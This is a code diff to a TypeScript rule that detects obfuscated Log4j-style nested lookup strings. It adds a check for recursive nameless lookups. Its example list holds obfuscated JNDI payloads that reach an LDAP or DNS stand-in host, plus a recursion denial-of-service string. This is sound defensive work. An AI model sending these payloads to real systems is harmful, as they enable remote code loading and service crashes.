@@ -12,7 +12,10 @@ export const nestedLookup: ValueRule = {
   trigger: { literals: [['${'], ['::-', 'lower:', 'upper:', 'env:', 'sys:', 'date:', ':-']] },
   judge: (subject) => {
     for (const one of subject.tokens(lookupGrammar).lookups) {
-      if (!one.isTooDeep && (one.inner < 2 || !isHidden(subject.text, one))) continue;
+      const isEvidence =
+        one.isTooDeep ||
+        (one.inner >= 2 && (isHidden(subject.text, one) || isNameless(subject.text, one)));
+      if (!isEvidence) continue;
       return { start: one.start, end: one.end };
     }
     return undefined;
@@ -20,6 +23,7 @@ export const nestedLookup: ValueRule = {
   examples: [
     '${${::-j}${::-n}${::-d}${::-i}${x}:ldap://203.0.113.5/a}',
     '${${lower:j}${lower:n}${foo}di:${lower:d}ns://203.0.113.5/}',
+    '${${::-${::-$${::-x}}}}',
   ],
   lookalikes: [
     '${a:-${b:-${c:-default}}}',
@@ -35,6 +39,12 @@ function isHidden(text: string, lookup: Lookup): boolean {
   let letters = 0;
   for (const _ of source.matchAll(singleLetter)) letters++;
   return letters >= 2;
+}
+
+/** Look-ups without a name inside each other: the recursion that ends in a stack overflow. */
+function isNameless(text: string, lookup: Lookup): boolean {
+  const source = text.slice(lookup.start, Math.min(lookup.end, lookup.start + 600));
+  return source.split('${::-', 4).length > 2;
 }
 
 const singleLetter = /(?::-|lower:|upper:|date:')[a-z:/]{1,2}'?\}/gi;
